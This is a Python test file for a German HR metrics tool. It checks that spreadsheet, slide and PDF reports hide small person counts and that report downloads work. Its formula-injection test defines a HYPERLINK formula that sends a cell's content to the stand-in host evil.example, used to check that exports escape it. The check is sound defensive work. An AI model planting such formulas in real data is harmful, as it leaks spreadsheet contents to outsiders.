"""Every export of the small-group store shows no person count in 1 … k−1 (CONTRACT § 3); text
from the store cannot become a spreadsheet formula; the CLI writes each format; the reports
page offers the three downloads.

Counts are recognisable by design: in the workbook a person count, and only a person count,
carries COUNT_FORMAT; in running text (slides, notes, PDF) every person count is written with
its unit ("47 Personen"), so years, sections of law and percentages are not mistaken for counts.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pypdf import PdfReader
from streamlit.testing.v1 import AppTest

from metrics import app_support as ui
from metrics import store
from metrics.access import LOCAL_USER
from metrics.disclosure import assert_no_small_counts
from metrics.ingest import import_files
from metrics.kpis import api as kpis
from metrics.report import (
    ChartExportError,
    build_deck,
    build_pdf,
    build_workbook,
    content,
    deck,
    images,
    pdf,
)
from metrics.report.workbook import COUNT_FORMAT
from metrics.safe_export import FORMULA_TRIGGERS
from metrics.settings import load_settings
from tests.exports import PERSONNEL_HEADER, person, write_csv
from tests.small_groups import build_small_group_store

YEAR = 2025
VIEWS = (None, "BA", "Kommune")
REPO = Path(__file__).resolve().parents[1]
SETTINGS = load_settings()
K = SETTINGS.k_ordinary
K_SENSITIVE = SETTINGS.k_sensitive
PERSON_COUNT = re.compile(r"(?<![\d.,])(\d{1,3}(?:\.\d{3})+|\d+)\s+(?:Personen|persons)\b")


@pytest.fixture(scope="module")
def small_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_small_group_store(tmp_path_factory.mktemp("report_small"))


@pytest.fixture(scope="module")
def con(small_db: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    with store.open_store(small_db) as connection:
        yield connection


@pytest.fixture(scope="module", autouse=True)
def _stop_chart_server() -> Iterator[None]:
    yield
    images.stop_server()


def counts_in_text(texts: Iterable[str]) -> list[int]:
    return [int(match.replace(".", "")) for text in texts for match in PERSON_COUNT.findall(text)]


def deck_texts(data: bytes) -> list[str]:
    return presentation_texts(Presentation(io.BytesIO(data)))


def presentation_texts(deck: Any) -> list[str]:  # a python-pptx Presentation
    """Every text of the deck: text boxes, tables, notes, and each native chart's categories,
    series names and data labels."""
    texts = []
    for slide in deck.slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts.append(shape.text_frame.text)
            if shape.has_table:
                texts += [cell.text for row in shape.table.rows for cell in row.cells]
            if shape.has_chart:
                for plot in shape.chart.plots:
                    texts += [str(category) for category in plot.categories]
                    for series in plot.series:
                        texts.append(series.name)
                        texts += re.findall(r"<a:t>([^<]*)</a:t>", series._element.xml)
        if slide.has_notes_slide:
            texts.append(slide.notes_slide.notes_text_frame.text)
    return texts


def deck_charts(data: bytes) -> list[tuple[list[str], str, list[float | None]]]:
    """(categories, series name, values) of every native chart series, from the chart XML;
    each chart's embedded workbook must hold the same numbers and no others."""
    found = []
    for slide in Presentation(io.BytesIO(data)).slides:
        for shape in slide.shapes:
            if not shape.has_chart:
                continue
            chart = shape.chart
            series = [
                ([str(c) for c in plot.categories], one.name, list(one.values))
                for plot in chart.plots
                for one in plot.series
            ]
            sheet = load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob)).active
            in_book = [c.value for row in sheet.iter_rows() for c in row]
            numbers = sorted(v for v in in_book if isinstance(v, int | float))
            assert numbers == sorted(v for _, _, values in series for v in values if v is not None)
            found += series
    return found


def workbook_counts(data: bytes) -> dict[str, list[object]]:
    """Every person count of every sheet: the cells of COUNT_FORMAT (place-months, targets and
    years carry other formats); a sheet's notes beside a narrow table hold no numbers."""
    book = load_workbook(io.BytesIO(data))
    return {
        sheet.title: [
            cell.value
            for row in sheet.iter_rows()
            for cell in row
            if cell.number_format == COUNT_FORMAT and isinstance(cell.value, int | float)
        ]
        for sheet in book.worksheets
    }


def test_the_scans_would_catch_a_leak() -> None:
    assert counts_in_text(["liegt bei 3 Personen", "1.060 Personen", "§ 3 Nr. 10", "52,6 %"]) == [
        3,
        1060,
    ]
    with pytest.raises(AssertionError):
        assert_no_small_counts(counts_in_text(["nur 2 Personen in Elternzeit"]), K)


@pytest.mark.parametrize("carrier", VIEWS)
def test_workbook_has_no_small_count(con: duckdb.DuckDBPyConnection, carrier: str | None) -> None:
    data = build_workbook(con, YEAR, carrier, by=LOCAL_USER)
    counts = workbook_counts(data)
    assert sum(len(values) for values in counts.values()) > 0  # the scan sees counts at all
    public = _public_leader_counts(con, carrier)
    for sheet, values in counts.items():
        if "Führung" in sheet or sheet == "Kennzahlen":
            # leaders per level and gender are public facts, published below k (CONTRACT § 3)
            values = [v for v in values if v not in public]
        assert_no_small_counts(values, K)
        if sheet.startswith("SGB IX"):
            assert_no_small_counts(values, K_SENSITIVE)
            assert 0 not in values  # sensitive: 0 is disclosive too
    # sensitive KPIs: their numerators and denominators pass the sensitive rule
    sheet = load_workbook(io.BytesIO(data))["Kennzahlen"]
    columns = [cell.value for cell in sheet[1]]
    counts_at = [columns.index("Zähler"), columns.index("Nenner")]
    id_at = columns.index("Technische ID")  # the last column
    for row in sheet.iter_rows(min_row=2):
        kpi_id = row[id_at].value
        if isinstance(kpi_id, str) and kpi_id in _all_ids() and kpis.split_id(kpi_id)[0].sensitive:
            numbers = [row[i].value for i in counts_at if isinstance(row[i].value, int | float)]
            assert_no_small_counts(numbers, K_SENSITIVE)
            assert 0 not in numbers


def _public_leader_counts(con: duckdb.DuckDBPyConnection, carrier: str | None) -> set[int]:
    rows = con.execute(
        """
        SELECT count(*) FROM personnel
        WHERE year(reporting_date) = $year AND leadership <> 'keine'
          AND reporting_date = (SELECT max(reporting_date) FROM personnel
                                WHERE year(reporting_date) = $year)
          AND ($carrier IS NULL OR carrier = $carrier)
        GROUP BY GROUPING SETS ((leadership, gender), (leadership))
        """,
        {"year": YEAR, "carrier": carrier},
    ).fetchall()
    return {int(n) for (n,) in rows}


def _all_ids() -> set[str]:
    return {kpi_id for kpi in kpis.REGISTRY for kpi_id in (kpi.id, *kpis.variant_ids(kpi))}


@pytest.mark.parametrize("carrier", [None, "Kommune"])
def test_deck_and_pdf_have_no_small_count(
    con: duckdb.DuckDBPyConnection, carrier: str | None
) -> None:
    # the builders' own steps, gathered once for both formats
    history = content.report_history(con, YEAR, SETTINGS)
    report_content = content.gather(con, YEAR, carrier, "de", SETTINGS, history)
    headlines = content.headlines(report_content, history)
    deck_bytes = deck.render_deck(report_content, headlines, history)
    texts = deck_texts(deck_bytes)
    # the native charts: no small count, and a withheld year is no point at all
    charts = deck_charts(deck_bytes)
    headcounts = [
        value
        for _, name, values in charts
        if name == kpis.kpi_label("headcount", "de")
        for value in values
        if value is not None
    ]
    assert headcounts  # the chart scan is not blind
    assert_no_small_counts(headcounts, K)
    labels = {kpis.kpi_label(kpi_id, "de"): kpi_id for kpi_id in _all_ids()}
    for categories, name, values in charts:
        if name not in labels or not all(c.isdigit() for c in categories):
            continue
        for year, value in zip(categories, values, strict=True):
            published = history.values(int(year), carrier).get(labels[name])
            if published is None or published.suppressed:
                assert value is None, (name, year)
    pdf_bytes = pdf.render_pdf(report_content, headlines)
    pdf_text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf_bytes)).pages)
    found = counts_in_text([*texts, pdf_text])
    assert found  # headcounts are stated, so the scan is not blind
    assert_no_small_counts(found, K)
    # a withheld headline is said to be withheld
    assert any("nicht ausgewiesen" in text for text in texts)


@pytest.mark.parametrize("carrier", [None, "Kommune"])
def test_chart_data_has_no_small_count(con: duckdb.DuckDBPyConnection, carrier: str | None) -> None:
    report_content = content.gather(con, YEAR, carrier, "de", SETTINGS)
    history = content.report_history(con, YEAR, SETTINGS)
    for headline in content.headlines(report_content, history):
        if kpis.KPIS[headline.kpi_id].unit != "count":
            continue  # shares: the numbers in the chart are percentages
        points: list[object] = []
        for trace in headline.chart.figure.data:
            points += [] if trace.y is None else list(trace.y)
            # hover texts show the same counts as text ("1.060"): read them as numbers
            hover = [] if trace.hovertext is None else list(trace.hovertext)
            points += [int(h.replace(".", "")) for h in hover if h.replace(".", "").isdigit()]
        assert points
        assert_no_small_counts(points, K)


def test_without_chromium_slides_and_pdf_carry_the_chart_values(
    con: duckdb.DuckDBPyConnection, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_browser(*args: object, **kwargs: object) -> bytes:
        raise ChartExportError("no Chromium found on PATH")

    monkeypatch.setattr(pdf, "chart_png", no_browser)
    # the deck's charts are native PowerPoint charts: it needs no browser at all
    presentation = Presentation(io.BytesIO(build_deck(con, YEAR, by=LOCAL_USER)))
    assert sum(1 for slide in presentation.slides for s in slide.shapes if s.has_chart) > 1
    assert PdfReader(io.BytesIO(build_pdf(con, YEAR, by=LOCAL_USER))).pages


def test_pdf_without_dejavu_falls_back_to_latin1(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    report_content = content.gather(con, YEAR, None, "de", SETTINGS)
    data = pdf.render_pdf(report_content, [], font_dir=tmp_path)  # no fonts there
    text = PdfReader(io.BytesIO(data)).pages[0].extract_text()
    assert "Kennzahlen" in text and "Träger" in text  # umlauts are Latin-1


# --- formula injection -----------------------------------------------------------------------

EVIL_UNIT = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
EVIL_PAY_GROUP = "=1+1"


@pytest.fixture(scope="module")
def injection_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("report_injection")
    rows = [
        person(
            f"P{i:02d}",
            "31.12.2025",
            org_unit=EVIL_UNIT if i % 2 else "@Bereich 2",
            pay_group=EVIL_PAY_GROUP if i % 3 else "+E 9",
            gender="w" if i % 2 else "m",
            leadership="Teamleitung" if i < 12 else "keine",
        )
        for i in range(40)
    ]
    db = directory / "v.duckdb"
    import_files([write_csv(directory / "personal.csv", PERSONNEL_HEADER, rows)], db, by=LOCAL_USER)
    return db


def test_store_text_never_becomes_a_formula(injection_db: Path) -> None:
    with store.open_store(injection_db) as connection:
        data = build_workbook(connection, YEAR, by=LOCAL_USER)
    book = load_workbook(io.BytesIO(data))
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]
    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert "'" + EVIL_UNIT in texts  # the org unit is there, as text
    assert any(text.startswith("'=1+1") or text.startswith("'+E 9") for text in texts)


# --- CLI and page -----------------------------------------------------------------------------


def run_cli(*runs: list[str]) -> list[subprocess.CompletedProcess[str]]:
    """Runs of `python -m metrics report`, side by side (each starts its own interpreter)."""
    processes = [
        subprocess.Popen(
            [sys.executable, "-m", "metrics", "report", *args],
            cwd=REPO,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for args in runs
    ]
    results = []
    for process in processes:
        stdout, stderr = process.communicate(timeout=180)
        results.append(
            subprocess.CompletedProcess(process.args, process.returncode, stdout, stderr)
        )
    return results


def test_cli_writes_each_format(small_db: Path, tmp_path: Path) -> None:
    outs = [tmp_path / f"bericht{suffix}" for suffix in (".xlsx", ".pptx", ".pdf")]
    results = run_cli(
        *[["--year", str(YEAR), "--out", str(out), "--db", str(small_db)] for out in outs]
    )
    for out, result in zip(outs, results, strict=True):
        assert result.returncode == 0, result.stderr
        assert str(out) in result.stdout
    assert "Kennzahlen" in load_workbook(outs[0]).sheetnames
    assert Presentation(str(outs[1])).slides[1].shapes.title.text == "Agenda"
    assert PdfReader(str(outs[2])).pages
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary left


def test_cli_refuses_clearly(small_db: Path, tmp_path: Path) -> None:
    unknown, missing_year, no_store = run_cli(
        ["--year", str(YEAR), "--out", str(tmp_path / "x.docx"), "--db", str(small_db)],
        ["--year", "1999", "--out", str(tmp_path / "x.xlsx"), "--db", str(small_db)],
        [
            "--year",
            str(YEAR),
            "--out",
            str(tmp_path / "x.xlsx"),
            "--db",
            str(tmp_path / "none.duckdb"),
        ],
    )
    assert unknown.returncode == 2 and ".docx" in unknown.stderr
    assert missing_year.returncode == 2 and "1999" in missing_year.stderr
    assert no_store.returncode == 2 and "none.duckdb" in no_store.stderr
    assert not (tmp_path / "x.xlsx").exists()


PAGE_SCRIPT = """
import runpy
from metrics import app_support as ui
with ui.navigation_run():
    runpy.run_path({page!r}, run_name="__main__")
"""


@pytest.mark.parametrize("lang", ["de", "en"])
def test_reports_page_offers_three_downloads(
    small_db: Path, lang: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(store.DB_ENV_VAR, str(small_db))
    app = AppTest.from_string(PAGE_SCRIPT.format(page=str(REPO / "pages" / "reports.py")))
    app.session_state["lang"] = lang
    app.run(timeout=60)
    assert not app.exception, [e.message for e in app.exception]
    assert not app.error, [e.value for e in app.error]
    buttons = app.get("download_button")
    assert len(buttons) == 3
    assert app.title[0].value == ("Berichte" if lang == "de" else "Reports")


def test_a_broken_template_is_named_by_the_cli_and_on_the_page(
    small_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "kaputt.pptx").write_bytes(b"no zip archive")
    shipped = (REPO / "settings.toml").read_text(encoding="utf-8")
    assert 'template = ""' in shipped
    settings = tmp_path / "settings.toml"
    settings.write_text(shipped.replace('template = ""', 'template = "kaputt.pptx"'), "utf-8")
    monkeypatch.setenv("VIELFALT_SETTINGS", str(settings))
    out = tmp_path / "bericht.pptx"
    [deck] = run_cli(["--year", str(YEAR), "--out", str(out), "--db", str(small_db)])
    assert deck.returncode == 1, deck.stderr
    assert "kaputt.pptx" in deck.stderr and "nicht als PowerPoint-Datei öffnen" in deck.stderr
    assert "Traceback" not in deck.stderr
    assert not out.exists()
    # the page says so where the deck would be, and still offers the workbook and the PDF
    monkeypatch.setenv(store.DB_ENV_VAR, str(small_db))
    app = AppTest.from_string(PAGE_SCRIPT.format(page=str(REPO / "pages" / "reports.py")))
    ui.settings.clear()  # the app reads its settings once per process, as at a restart
    try:
        app.run(timeout=60)
    finally:
        ui.settings.clear()
    assert not app.exception, [e.message for e in app.exception]
    shown = [e.value.replace("\\", "") for e in app.error]  # the page escapes Markdown
    assert [text for text in shown if "kaputt.pptx" in text and "Vorlage" in text], shown
    assert len(app.get("download_button")) == 2
